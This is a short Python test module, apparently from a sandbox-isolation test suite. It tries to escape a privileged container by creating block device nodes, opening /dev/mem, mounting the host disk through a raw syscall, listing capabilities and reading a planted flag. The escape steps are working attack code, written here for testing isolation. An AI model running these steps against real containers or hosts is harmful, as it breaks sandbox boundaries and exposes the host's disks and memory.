# SPDX-License-Identifier: Apache-2.0
"""A privileged container has all devices and capabilities: mount the host's disk."""
import glob
import os
import stat

from run import FLAG, syscall

RECORD = ["mknodat", "mount"]


def disk(major, minor):
    path = f"/tmp/sandbox/disk-{major}"
    os.mknod(path, stat.S_IFBLK | 0o600, os.makedev(major, minor))
    return os.open(path, os.O_RDONLY) >= 0


def attack(a):
    for major, minor in ((8, 0), (8, 1), (252, 0), (254, 0), (259, 0)):
        a.step(f"mknod block {major}:{minor}", disk, major, minor)
    a.step("disks in /dev", lambda: glob.glob("/dev/sd*") + glob.glob("/dev/vd*") + glob.glob("/dev/nvme*"))
    a.step("open /dev/mem", os.open, "/dev/mem", os.O_RDONLY)
    a.step("mount the disk", syscall, 165, b"/dev/vda", b"/tmp/sandbox", b"ext4", 0, None)
    a.step("capabilities", lambda: [l for l in open("/proc/self/status") if l.startswith("Cap") and int(l.split()[1], 16)])
    a.read("/mnt" + FLAG)
